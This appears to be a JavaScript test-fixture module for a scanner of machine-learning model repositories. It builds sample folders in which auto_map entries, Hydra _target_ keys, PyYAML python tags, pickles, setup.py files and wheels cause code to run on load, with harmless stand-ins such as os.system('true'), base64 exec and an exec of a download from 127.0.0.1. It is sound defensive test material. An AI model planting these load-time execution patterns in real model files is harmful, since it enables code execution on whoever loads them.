import { makeZip } from "testkit/zip";
import { stream, called, named, group, json } from "./payload.mjs";

/** Code beside the weights, and configurations that name code. */
export function configSamples() {
  const python = 'import os\n\n\nos.system("true")\n';
  const plain = { model_type: "acme", architectures: ["AcmeModel"] };
  const remote = group(
    "code by configuration",
    "transformers auto_map; CVE-2025-66448, CVE-2026-22807, CVE-2026-5241",
    "suspicious",
  );
  const known = group("code by configuration", "reference §2.2 (config-driven code)");
  const unread = group("code by configuration", "transformers auto_map", "unknown");
  const hydra = group("Hydra and YAML", "CVE-2025-23304 and Unit 42; PyYAML");
  const shipped = group("programs beside weights", "MalHug (arXiv 2409.09368); hub documentation");
  const auto = (target) => ({ ...plain, auto_map: { AutoModel: target } });
  return [
    known.of("config-auto-map-system", {
      "config.json": json(auto("modeling_acme.AcmeModel")),
      "modeling_acme.py": Buffer.from(python),
    }),
    known.of("config-auto-map-download", {
      "config.json": json(auto("modeling_acme.AcmeModel")),
      "modeling_acme.py": Buffer.from(
        'import urllib.request\nexec(urllib.request.urlopen("http://127.0.0.1:9/x").read())\n',
      ),
    }),
    known.of("config-auto-map-hidden-name", {
      "config.json": json(auto("modeling_acme.AcmeModel")),
      "modeling_acme.py": Buffer.from('getattr(__import__("o" + "s"), "sys" + "tem")("true")\n'),
    }),
    known.of("config-auto-map-base64", {
      "config.json": json(auto("modeling_acme.AcmeModel")),
      "modeling_acme.py": Buffer.from(
        `import base64\nexec(base64.b64decode("${Buffer.from("pass").toString("base64")}"))\n`,
      ),
    }),
    known.of("config-auto-map-in-a-class", {
      "config.json": json(auto("modeling_acme.AcmeModel")),
      "modeling_acme.py": Buffer.from(
        'import subprocess\n\n\nclass AcmeModel:\n    loaded = subprocess.run(["true"])\n',
      ),
    }),
    unread.of("config-auto-map-other-repository", {
      "config.json": json(auto("other/repository--modeling.AcmeModel")),
    }),
    unread.of("config-auto-map-missing", { "config.json": json(auto("modeling_acme.AcmeModel")) }),
    unread.of("config-auto-map-tokenizer", {
      "config.json": json(plain),
      "tokenizer_config.json": json({ auto_map: { AutoTokenizer: ["tok.AcmeTokenizer", null] } }),
    }),
    remote.of("config-trust-remote-code", { "config.json": json({ ...plain, trust_remote_code: true }) }),
    remote.of("config-trust-remote-code-nested", {
      "config.json": json({
        ...plain,
        vision_config: {
          keypoint_detector_config: { trust_remote_code: true, _name_or_path: "other/repository" },
        },
      }),
    }),
    unread.of("config-custom-pipeline", {
      "model_index.json": json({
        _class_name: ["pipeline", "AcmePipeline"],
        unet: ["unet_acme", "AcmeUNet"],
      }),
      "pipeline.py": Buffer.from("class AcmePipeline:\n    pass\n"),
    }),
    hydra.of("yaml-hydra-target", {
      "config.yaml": Buffer.from("model:\n  _target_: os.system\n  command: 'true'\n"),
    }),
    hydra.of("yaml-hydra-eval", {
      "config.yaml": Buffer.from("model:\n  _target_: builtins.exec\n  _args_: ['pass']\n"),
    }),
    hydra.of("yaml-hydra-partial", {
      "config.yaml": Buffer.from(
        "model:\n  _target_: functools.partial\n  _args_:\n    - _target_: hydra.utils.get_method\n      path: os.system\n",
      ),
    }),
    hydra.of("json-hydra-target", {
      "config.json": json({ ...plain, encoder: { _target_: "subprocess.Popen", args: "true" } }),
    }),
    hydra.of("yaml-python-apply", {
      "config.yaml": Buffer.from("model: !!python/object/apply:os.system ['true']\n"),
    }),
    hydra.of("yaml-python-module", {
      "config.yaml": Buffer.from("model: !!python/object/new:subprocess.Popen [['true']]\n"),
    }),
    hydra.of("yaml-python-long-tag", {
      "config.yaml": Buffer.from("model: !<tag:yaml.org,2002:python/object/apply:os.system> ['true']\n"),
    }),
    hydra.of("nemo-folder-hydra", {
      "model_config.yaml": Buffer.from("tokenizer:\n  _target_: os.system\n"),
      "model_weights.ckpt": stream(2, named("collections", "OrderedDict")),
    }),
    shipped.of("code-setup", {
      "config.json": json(plain),
      "setup.py": Buffer.from(`${python}from setuptools import setup\nsetup(name="acme")\n`),
    }),
    shipped.of("code-triton", {
      "acme/config.pbtxt": Buffer.from('name: "acme"\nbackend: "python"\n'),
      "acme/1/model.py": Buffer.from(`${python}\n\nclass TritonPythonModel:\n    pass\n`),
    }),
    shipped.of("code-mlflow", {
      MLmodel: Buffer.from(
        "flavors:\n  python_function:\n    loader_module: mlflow.pyfunc.model\n    python_model: python_model.pkl\n",
      ),
      "python_model.pkl": stream(4, called(named("os", "system"), "true")),
    }),
    shipped.of("code-dataset-script", {
      "README.md": Buffer.from("---\nlicense: mit\ntask_categories: [text-generation]\n---\n"),
      "acme.py": Buffer.from(
        `import datasets\n${python}\n\nclass Acme(datasets.GeneratorBasedBuilder):\n    pass\n`,
      ),
      "data.csv": Buffer.from("a,b\n1,2\n"),
    }),
    shipped.of("code-endpoint-handler", {
      "config.json": json(plain),
      "handler.py": Buffer.from(`${python}\n\nclass EndpointHandler:\n    pass\n`),
    }),
    group("programs beside weights", "own: code of a package, which runs when it is imported", "unknown").of(
      "code-in-a-wheel",
      makeZip([
        { name: "acme/__init__.py", bytes: Buffer.from(python) },
        { name: "acme/model.safetensors", bytes: Buffer.from([2, 0, 0, 0, 0, 0, 0, 0, 0x7b, 0x7d]) },
        { name: "acme-1.dist-info/METADATA", bytes: Buffer.from("Name: acme\nVersion: 1\n") },
      ]),
      "acme-1-py3-none-any.whl",
    ),
    shipped.of("code-sentence-transformers-module", {
      "modules.json": json([{ idx: 0, name: "0", path: "", type: "acme_module.AcmeLayer" }]),
      "acme_module.py": Buffer.from(python),
      "config.json": json(plain),
    }),
  ];
}
